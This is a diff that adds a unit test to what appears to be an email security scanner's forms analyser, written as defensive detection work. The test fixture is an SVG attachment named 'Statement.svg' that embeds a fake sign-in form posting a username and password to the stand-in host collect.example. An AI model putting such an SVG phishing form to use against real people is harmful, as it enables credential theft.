@@ -21,6 +21,20 @@ describe('the forms analyser', () => {
     );
   });
 
+  it('finds a sign-in page embedded in an SVG picture, and nothing in a picture that is only one', async () => {
+    const svg = (body: string) => ({
+      filename: 'Statement.svg',
+      contentType: 'image/svg+xml',
+      content: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400">${body}</svg>`),
+    });
+    const page =
+      '<foreignObject width="600" height="400"><html xmlns="http://www.w3.org/1999/xhtml"><form action="https://collect.example/p"><input name="u"/><input type="password" name="p"/></form></html></foreignObject>';
+    const found = await forms.analyse(await message({ attachments: [svg(page)] }), context());
+    expect(found.map((s) => s.code)).toEqual(['password-form']);
+    const picture = svg('<circle cx="50" cy="50" r="40" fill="#0067b8"/>');
+    expect(await forms.analyse(await message({ attachments: [picture] }), context())).toEqual([]);
+  });
+
   it('says nothing of a body without forms', async () => {
     expect(await forms.analyse(await message({ html: '<p>Hello</p>' }), context())).toEqual([]);
   });
